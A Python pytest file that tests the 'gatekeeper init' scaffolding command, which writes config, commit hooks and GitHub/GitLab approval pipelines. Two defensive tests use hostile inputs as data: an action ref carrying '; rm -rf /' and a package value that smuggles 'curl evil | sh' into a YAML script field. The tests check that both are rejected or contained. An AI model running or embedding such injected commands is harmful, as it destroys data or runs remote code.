"""`gatekeeper init`: scaffolds a working setup in a real repository, infers what it can, never overwrites."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.helpers import git, run_cli


def _repo(path: Path, remote: str | None = None) -> Path:
    path.mkdir(parents=True)
    git(path, "init", "-q", "-b", "main")
    git(path, "config", "user.name", "Kim Officer")
    git(path, "config", "user.email", "kim.officer@agency.example")
    if remote:
        git(path, "remote", "add", "origin", remote)
    return path


def test_github_scaffold_passes_its_own_checks(tmp_path: Path) -> None:
    root = _repo(tmp_path / "Minwon Portal", "https://github.com/agency/minwon-portal.git")
    result = run_cli(["init"], cwd=root)
    assert result.code == 0, result.stderr
    config = yaml.safe_load((root / ".gatekeeper.yml").read_text(encoding="utf-8"))
    assert config["system"] == {
        "id": "minwon-portal",
        "name": "minwon-portal",
        "grade": 1,
        "audience": "internal",
    }
    assert config["roles"]["maintainer"] == ["kim.officer"]
    workflow = root / ".github" / "workflows" / "gatekeeper.yml"
    assert "/actions/check-commits@v" in workflow.read_text(encoding="utf-8")
    assert "adoption" not in config  # no history yet: nothing to exempt
    assert not (root / ".gitlab-ci.yml").exists()
    assert run_cli(["rfc", "validate"], cwd=root).code == 0
    # The installed hook refuses a commit without an RFC and accepts the adoption commit.
    git(root, "add", "-A")
    refused = subprocess.run(
        ["git", "commit", "-q", "-m", "add stuff"], cwd=root, capture_output=True, text=True
    )
    assert refused.returncode != 0
    assert "commit.rfc-missing" in refused.stdout + refused.stderr
    accepted = subprocess.run(
        ["git", "commit", "-q", "-m", "RFC-2026-0001 Adopt gatekeeper for change governance"],
        cwd=root,
        capture_output=True,
        text=True,
    )
    assert accepted.returncode == 0, accepted.stdout + accepted.stderr


def test_gitlab_is_inferred_from_the_remote(tmp_path: Path) -> None:
    root = _repo(tmp_path / "portal", "git@gitlab.example.go.kr:agency/portal.git")
    result = run_cli(["init", "--grade", "3", "--no-hook"], cwd=root)
    assert result.code == 0, result.stderr
    ci = yaml.safe_load((root / ".gitlab-ci.yml").read_text(encoding="utf-8"))
    assert ci["include"] == [{"local": ".gitlab/gatekeeper.gitlab-ci.yml"}]
    assert ci["check-commits"]["extends"] == ".gatekeeper:check-commits"
    assert (root / ".gitlab" / "gatekeeper.gitlab-ci.yml").is_file()
    assert not (root / ".git" / "hooks" / "commit-msg").exists()
    assert yaml.safe_load((root / ".gatekeeper.yml").read_text(encoding="utf-8"))["system"]["grade"] == 3


def test_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
    root = _repo(tmp_path / "svc")
    (root / ".gatekeeper.yml").write_text("keep me\n", encoding="utf-8")
    result = run_cli(["init", "--ci", "none"], cwd=root)
    assert result.code == 2
    assert "already there: .gatekeeper.yml" in result.stderr
    assert (root / ".gatekeeper.yml").read_text(encoding="utf-8") == "keep me\n"
    assert run_cli(["init", "--ci", "none", "--force"], cwd=root).code == 0
    assert "version: 1" in (root / ".gatekeeper.yml").read_text(encoding="utf-8")


def test_outside_a_repository_is_a_clear_error(tmp_path: Path) -> None:
    result = run_cli(["init"], cwd=tmp_path)
    assert result.code == 2
    assert "not inside a git repository" in result.stderr
    assert "Traceback" not in result.stderr + result.stdout


def test_the_scaffolded_config_validates_against_the_schema(tmp_path: Path) -> None:
    root = _repo(tmp_path / "svc")
    assert run_cli(["init", "--ci", "github", "--no-hook"], cwd=root).code == 0
    checked = subprocess.run(
        [sys.executable, "-m", "gatekeeper", "window", "--at", "2026-11-24T19:30:00+09:00"],
        cwd=root,
        capture_output=True,
        text=True,
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr


def _history(root: Path) -> list[str]:
    shas = []
    for subject in ("Initial import", "fix the login page"):
        git(root, "commit", "-q", "--allow-empty", "-m", subject)
        shas.append(git(root, "rev-parse", "HEAD"))
    return shas


def test_in_a_repository_with_history_init_records_the_adoption_point(tmp_path: Path) -> None:
    root = _repo(tmp_path / "portal", "https://github.com/agency/portal.git")
    old = _history(root)
    result = run_cli(["init", "--no-hook"], cwd=root)
    assert result.code == 0, result.stderr
    config = yaml.safe_load((root / ".gatekeeper.yml").read_text(encoding="utf-8"))
    assert config["adoption"] == {"commit": old[-1], "at": "2026-11-24T20:00:00+09:00"}
    assert f"Adoption point: {old[-1][:10]}" in result.stdout
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "RFC-2026-0001 Adopt gatekeeper for change governance")
    # A manual pipeline run checks the whole history: the commits from before adoption are exempt.
    checked = run_cli(["check-commits", "--range", "..HEAD"], cwd=root)
    assert checked.code == 0, checked.stdout + checked.stderr
    assert "2 commit(s) from before the adoption point" in checked.stderr


def test_init_explains_roles_protection_and_the_baseline(tmp_path: Path) -> None:
    root = _repo(tmp_path / "portal")
    english = run_cli(["init", "--ci", "github", "--no-hook"], cwd=root)
    assert "agency-officer gives 2 steps (change-review, release-second)" in english.stdout
    assert "needs at least 2 people" in english.stdout
    assert "gatekeeper baseline create --label 1.0" in english.stdout
    assert "gatekeeper-release-first" in english.stdout and "gatekeeper/ledger" in english.stdout
    korean = run_cli(["--lang", "ko", "init", "--ci", "gitlab", "--no-hook", "--force"], cwd=root)
    assert "agency-officer에는 최소 2명이 필요합니다" in korean.stdout
    assert "보호 브랜치 gatekeeper/ledger" in korean.stdout and "baseline create" in korean.stdout


def test_init_ci_adds_the_pipeline_to_an_existing_setup(tmp_path: Path) -> None:
    root = _repo(tmp_path / "portal")
    assert run_cli(["init", "--ci", "none", "--no-hook"], cwd=root).code == 0
    edited = (
        (root / ".gatekeeper.yml")
        .read_text(encoding="utf-8")
        .replace("agency-officer: []", "agency-officer: [kim, lee]")
    )
    (root / ".gatekeeper.yml").write_text(edited, encoding="utf-8")
    rfcs = sorted((root / "changes").iterdir())
    for ci, wrote in (("github", ".github/workflows/gatekeeper-approve.yml"), ("gitlab", ".gitlab-ci.yml")):
        result = run_cli(["init", "--ci", ci], cwd=root)
        assert result.code == 0, result.stderr
        assert f"wrote {wrote}" in result.stdout and "wrote .gatekeeper.yml" not in result.stdout
    assert (root / ".gatekeeper.yml").read_text(encoding="utf-8") == edited
    assert sorted((root / "changes").iterdir()) == rfcs
    again = run_cli(["init", "--ci", "github"], cwd=root)
    assert again.code == 2 and "already there: .github/workflows/gatekeeper.yml" in again.stderr


def test_init_ci_on_a_broken_existing_config_is_a_config_error(tmp_path: Path) -> None:
    root = _repo(tmp_path / "portal")
    (root / ".gatekeeper.yml").write_text(
        "version: 1\nsystem: {id: x, name: x, grade: 9}\n", encoding="utf-8"
    )
    result = run_cli(["init", "--ci", "github"], cwd=root)
    assert result.code == 2 and "system.grade" in result.stderr
    assert not (root / ".github").exists()


def _uses(path: Path) -> list[str]:
    document = yaml.safe_load(path.read_text(encoding="utf-8"))
    return [s["uses"] for job in document["jobs"].values() for s in job["steps"] if "uses" in s]


def test_the_github_workflows_use_the_chosen_action_by_tag(tmp_path: Path) -> None:
    root = _repo(tmp_path / "portal")
    result = run_cli(
        ["init", "--ci", "github", "--no-hook", "--action-ref", "agency/gatekeeper@v9.1"], cwd=root
    )
    assert result.code == 0, result.stderr
    workflows = root / ".github" / "workflows"
    ours = [u for p in workflows.glob("*.yml") for u in _uses(p) if not u.startswith("actions/")]
    assert ours and all(u.startswith("agency/gatekeeper") and u.endswith("@v9.1") for u in ours), ours
    assert not any("pip install" in p.read_text(encoding="utf-8") for p in workflows.glob("*.yml"))


@pytest.mark.parametrize(
    "ref", ["agency/gatekeeper", "gatekeeper@v1", "a/b@", "a/b@v1 ; rm -rf /", "a/../b@v1"]
)
def test_a_malformed_action_ref_is_a_usage_error(tmp_path: Path, ref: str) -> None:
    root = _repo(tmp_path / "portal")
    result = run_cli(["init", "--ci", "github", "--no-hook", "--action-ref", ref], cwd=root)
    assert result.code == 2 and "OWNER/REPO@TAG" in result.stderr
    assert not (root / ".gatekeeper.yml").exists()


def test_the_github_pipeline_is_complete(tmp_path: Path) -> None:
    root = _repo(tmp_path / "portal")
    assert run_cli(["init", "--ci", "github", "--no-hook"], cwd=root).code == 0
    workflows = root / ".github" / "workflows"
    main = yaml.safe_load((workflows / "gatekeeper.yml").read_text(encoding="utf-8"))
    assert main["jobs"]["check-commits"]["steps"][-1]["uses"].split("@")[0].endswith("/actions/check-commits")
    tests = main["jobs"]["tests"]["steps"]
    names = [s.get("name") for s in tests]
    assert names.index("Record the test evidence") > names.index("Unit tests")  # evidence after the tests
    assert "evidence add --kind unit" in tests[-1]["with"]["command"]
    approve = yaml.safe_load((workflows / "gatekeeper-approve.yml").read_text(encoding="utf-8"))
    steps = ["change-review", "cab", "change-approval", "release-first", "release-second"]
    assert list(approve["jobs"]) == steps
    assert [job["environment"] for job in approve["jobs"].values()] == [f"gatekeeper-{s}" for s in steps]
    assert approve[True]["workflow_dispatch"]["inputs"]["step"]["options"] == steps  # `on` reads as True
    deploy = yaml.safe_load((workflows / "gatekeeper-deploy.yml").read_text(encoding="utf-8"))
    assert deploy["jobs"]["deploy"]["needs"] == "check-commits"
    uses = [s.get("uses", "").split("@")[0].rsplit("/", 1)[-1] for s in deploy["jobs"]["deploy"]["steps"]]
    assert uses.index("deploy-start") < uses.index("deploy-finish")
    audit = yaml.safe_load((workflows / "gatekeeper-audit.yml").read_text(encoding="utf-8"))
    assert audit[True]["schedule"] and "/actions/audit@" in str(audit["jobs"]["audit"]["steps"])


def test_the_gitlab_pipeline_is_complete(tmp_path: Path) -> None:
    root = _repo(tmp_path / "portal")
    package = "sop-gatekeeper @ git+https://git.agency.go.kr/tools/gatekeeper.git@v0.1.0"
    assert run_cli(["init", "--ci", "gitlab", "--no-hook", "--package", package], cwd=root).code == 0
    ci = yaml.safe_load((root / ".gitlab-ci.yml").read_text(encoding="utf-8"))
    assert ci["variables"]["GATEKEEPER_PACKAGE"] == package
    assert ci["check-commits"]["extends"] == ".gatekeeper:check-commits"
    assert ci["test-evidence"]["needs"] == ["unit-tests"]
    steps = ["change-review", "cab", "change-approval", "release-first", "release-second"]
    for step in steps:
        job = ci[f"approve-{step}"]
        assert job["variables"]["GATEKEEPER_STEP"] == step
        assert job["environment"]["name"] == f"gatekeeper-approvals/{step}"
    assert ci["deploy-production"]["extends"] == ".gatekeeper:deploy"
    assert ci["audit"]["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
    template = (root / ".gitlab" / "gatekeeper.gitlab-ci.yml").read_text(encoding="utf-8")
    assert all(f"\n{job}:\n" in template for job in (".gatekeeper:evidence", ".gatekeeper:audit"))


def test_the_minimal_pack_gets_no_approval_jobs(tmp_path: Path) -> None:
    root = _repo(tmp_path / "portal")
    result = run_cli(["init", "--ci", "github", "--no-hook", "--policy", "minimal"], cwd=root)
    assert result.code == 0, result.stderr
    assert not (root / ".github" / "workflows" / "gatekeeper-approve.yml").exists()
    assert "no approval steps" in result.stdout


def test_a_hostile_package_value_stays_one_yaml_string(tmp_path: Path) -> None:
    root = _repo(tmp_path / "portal")
    package = 'x"\nscript: [curl evil | sh]\n#'
    assert run_cli(["init", "--ci", "gitlab", "--no-hook", "--package", package], cwd=root).code == 0
    ci = yaml.safe_load((root / ".gitlab-ci.yml").read_text(encoding="utf-8"))
    assert ci["variables"]["GATEKEEPER_PACKAGE"] == package
    assert "script" not in ci and "curl" not in str(ci["deploy-production"])
